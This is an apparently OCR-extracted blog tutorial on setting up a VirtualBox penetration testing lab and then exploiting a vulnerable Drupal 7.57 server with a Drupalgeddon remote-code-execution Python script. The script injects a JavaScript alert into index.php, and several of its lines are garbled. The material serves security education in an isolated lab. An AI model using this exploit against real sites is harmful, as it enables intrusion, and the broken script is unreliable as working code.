How to Build a Virtual Penetration Testing Lab

As a penetration tester it is important to have a controlled environment in which to hone your skills and test new techniques. Testing on systems you do not own is illegal, even if it is just harmless curiosity. In this article I will show you how to build a virtual penetration testing lab using VirtualBox, Kali Linux, and Ubuntu.

In this lab you can test, and hack away without worrying about the men in black showing up at your door. Plus, in a virtual environment you can carefully monitor each system’s behavior during an attack giving you further insight into how an exploit compromises a system.

In addition, with a virtual network you can clone and snapshot instances with just a few clicks and easily create new pre-configured hosts. This allows you to try many different techniques in a short period of time, and always start from the same base configuration.

Below are the steps we will take to create the virtual penetration testing lab.

Install VirtualBox

VirtualBox is a fantastic virtualization tool for building a penetration testing lab.

First, you will want to grab a copy of VirtualBox and run through the installation for your OS. VirtualBox is a fantastic virtualization tool and provides a rich feature set for operating virtual machines.

Our entire virtual penetration testing lab will be hosted in VirtualBox. This keeps the host system nice and tidy. Most PCs these days can easily support 2 or even 3 Linux guest VMs hosting a simple web server for example.

VirtualBox also provides snapshot capabilities allowing VMstates to be stored and recalled with the click of a button.

Set up the Virtual Network

Once we’ve got VirtualBox installed we need a network for our machines to live on. To keep the lab isolated we will want the machines to be restricted to a dedicated private network. VirtualBox makes this easy with the NAT Network. With a NAT Network all of our lab machines can easily communicate with one another while also having NATed access to the Internet.If you haven’t set up a NAT Network before read on below. It is a little different from the other VirtualBox networking options but I will show you how to set up a NAT Network in VirtualBox.

First you will need to create the network itself. This is done under VirtualBox > Preferences. Select the Network tab and then add a new network.

Double-clicking the newly created network allows you to configure the subnet IP range, the name of the network, and DHCP options. For now the defaults are fine but go ahead and rename the network if you wish.

Virtual network configuration for virtual penetration testing lab.

I like the NAT Network option best as it provides each of the VMs with a NATed Internetconnection. It also places each of the VMs on the same private network allowing our lab machines to easily communicate with one another. Now let us fill our penetration testing lab with some machines.

Create the Kali Host

Kali Linux is an advanced penetration testing platform for ethical hacking and penetration testing.

KaliLinux is a fantastic distribution loaded with all sorts of penetration testing tools. I like to have a Kali host on my lab network either for launching attacks or fingerprinting hosts.

Kali is a breeze to install with the pre-made VirtualBox image. Follow our in-depth tutorial to Install Kali LInux in Virtual Box on Mac. Check that guide out if you need some extra help, otherwise the basic steps are listed below.

Download the Kali VirtualBox image from the Offensive Security downloads page.

The downloaded file is a VirtualBox appliance file. After the download completes, open VirtualBox and select File > Import Appliance…

The default user for the appliance is root with a default password of toor.

Now let us add some targets to the lab network.Build the Base Ubuntu Image

Ideally we want the virtual pentesting lab to be as re-useable as possible. I use VirtualBox appliances for this. An appliance packages up your virtual machine as a single file including all the machine settings and the current machine state. This appliance file can be imported as many times as needed to create a new virtual machine.

I use Ubuntu for this base machine. Ubuntu is widely supported, and an easily configured OS.

Lets start by setting up a base Ubuntu virtual machine, and then I will show you how to create an appliance out of it.

Download Ubuntu

Download the Ubuntu ISO. The minimal version is fine, but grab the standard version if you prefer a full graphical desktop.

Create the VM

While the ISO is donwloading create a new virtual machine.

Once the ISO has downloaded, insert it into the virtual machine.

Install Ubuntu

Start the VM and run through the Ubuntu installation process. For a base box most of the defaults are fine and give you a clean minimal Ubuntu installation.There are plenty of installation tutorials available for Ubunut and VirtualBox so I won’t go into detail here. Google is your friend.

Remember, you’ll only have to step through this installation once!

Tweak the Machine

At this point you could stop and create an appliance. However you may also wish to perform a few more customizations for your base appliance.

For example, you could install your preferred text editor (mine’s vim!), install a default set of base packages, or just customize the shell prompt.Export the Appliance

Once you have finished tweaking your base box it is time to export the appliance. This is as simple as File > Export Appliance. Tweak any options, and put this file somewhere for later.

Now whenever you need a new host in the lab, you can import this appliance. This will save you considerable time as you won’t haveto go through the same initial configuration over and over for each host.

Hacking Drupal

That is pretty much all we need for a basic penetration testing lab. We have a master host for launching and monitoring attacks. We have also created a re-useable base appliance for easily creating test targets.

Now I will run through an example exploit using our new penetration testing lab. I will demonstrate one of the DrupalGeddon vulnerabilities that were discovered in early 2018. You may want to start by reading the analysis of the vulnerability.

For this example we will set up a base web server running a vulnerable Drupal installation.

We will then use a simple Python script on the Kali host and exploit the vulnerability.

Creating the Target Host

If you don’t have any Ubuntu VMs running, grab your appliance and spin up a new VM. Log in to your target virtual machine to begin the setup.

The Drupalgeddon vulnerability came out quite some time ago so we will need to install some repositories first.

# Install php5.6 repository
apt-get install software-properties-common
add-apt-repository ppa:ondrej/php
apt-get update

# Install php5.6 packages
apt-get install php5.6 php5.6-gd php5.6-xml php5.6-mysql php5.6-mbstring

Now we can install the Apache web server and the MySQL database

# Install Apache and MySQL
apt install apache2
apt install mysql-server

# Restart apache2
service apache2 restart

# Restart mysql
service mysql restart# Secure mysql installation

Now let’s create the database and user.

# Use mysql command to enter the mysql console

# Then create thedatabase and user
mysql> CREATE DATABASE databasenameCHARACTER SET utf8 COLLATE utf8_general_ci;
mysql> CREATE USER username@localhost IDENTIFIED BY 'password';

After we have installed therequired packages, we can begin to install Drupal.

Simply download and extract the Drupal archive, and then pull up the site in a browser to complete the installation.

cd/var/www/html/
tar -xzvf drupal-7.57.tar.gz
cd /var/www/html/drupal-7.57/
cp sites/default/default.settings.phpsites/default/settings.php
cd /var/www/html/
chown -R www-data:www-data drupal-7.57/

If you need the private IP of the server you can use the following command.

# Get the server private IP

Now navigate to the IP of your VM in a browser. You should be greeted by the Drupal installation page.

Once you reach the database configuration page, enter the database user details for the user you created earlier.

After the installer is complete you can check out your fresh new homepage.

If we check the status report, we can see that we are in fact running Drupal 7.57. Now let us have some fun with this!

Exploiting the Target

Now that we have a vulnerable target set up, let us get to work exploiting it.

Thefollowing is a simple Python script that will exploit the vulnerability and demonstrate remote code execution. Be sure to check out the vulnerability analysis if you aren’t sure how the script works.

This vulnerability gives us the ability to execute arbitrary code on the target server. We could use this to do some pretty nasty things, but lets just make a tiny modification to index.php.

The ‘shell_code’ variable holds the code that we are injecting into index.php. This is just a simple Javascript alert that will show any time the page is loaded. I’ll leave it up to you to see what else you can do with this vulnerability.


import requests
import re
import base64

shell_code = "echo \"<script>alert('Ouch. Time to patch. ');</script>\";"
encoded_cmd= base64.b64encode(shell_code)
bashcmd = "echo " + encoded_cmd + " | base64 -d >> index.php"
print bashcmd
target_url = '/?q=user/password&name[#post_render][]=passthru&name[#type]=markup&name[#markup]=' + bashcmd
payload = "form_id=user_pass&_triggering_element_name=name"

url = 'http://' + target + target_url
url = url.replace('#', '%23')
url = url.replace(' ', '+')
print url

headers = {'content-type': 'application/x-www-form-urlencoded'}
r =, headers=headers, data=payload)
body = r.text

# Extract form id from body
m ='form_build_id" value="(form-.*)"', body)
form_build_id =

trigger_url = 'http://' + target + '/?q=file/ajax/name/#value/' + form_build_id
trigger_url = trigger_url.replace('#', '%23')
trigger_url = trigger_url.replace(' ', '+')
payload = "form_build_id=" + form_build_id

# Trigger the exploit
r =, headers=headers, data=payload)

Run the script and head on over to your browser. You should see the Javascript alert pop up when the page reloads.

And there you have it. We’ve just exploited Drupal in our virtual penetration testing lab.

Benefits of a Virtual Penetration Testing Lab

We’ve already covered how easy it is to create and snapshot hosts. We can also use Wireshark to monitor network traffic on our lab network.

To do this, open Wireshark on your host machine (the one running VirtualBox). After that, select the NAT Network you created (mine is named vboxnet0) from the available interfaces list.

Wireshark is a great tool for monitoring traffic in your virtual penetration testing lab.Wireshark now shows you all the traffic passing between your lab machines. This is extremely useful when debugging an exploit, or assessing a vulnerability.

Something Extra

The best part of a virtual penetration testing lab is the versatility it provides.

Metasploitable2 is a vulnerable virtual machine that can easily be added to your lab.

I go through the installation process in my article: How to Install Metasploitable in VirtualBox

Or you can grab the download on Sourceforge.

4 thoughts on “How to Build a Virtual Penetration Testing Lab

  • Great article K! Keep these coming. I have used VirtualBox for a number of years with success. Question: Do you use the machine as a dedicated virtual server for test VM’s or test the virtual machines from the host? This may not be the place to put this,but I would like to see an article from you that outlines the top 5 or 10 tools that every InfoSec professional should know and why. I would also like to see a post about how to get started in the InfoSec community and what you need to know to be relevant in the field. And finally, I would like you do an article that outlines a successful Pentest attack in a lab environment speaking specifically as to why you did it and what it accomplished. As you can tell, I am a noob and respect the knowledge that you have attained over the years. It is hard to start out because very few people believe in the concept of security by offense. Schools don’t teach it and it makes for an unprepared and irrelevant security professional that can spit out theory as if it was application. Thanks again K! I look forward to your next post!

Leave a Reply

Leave a Reply

Your email address will not be published.

The reCAPTCHA verification periodhas expired. Please reload the page.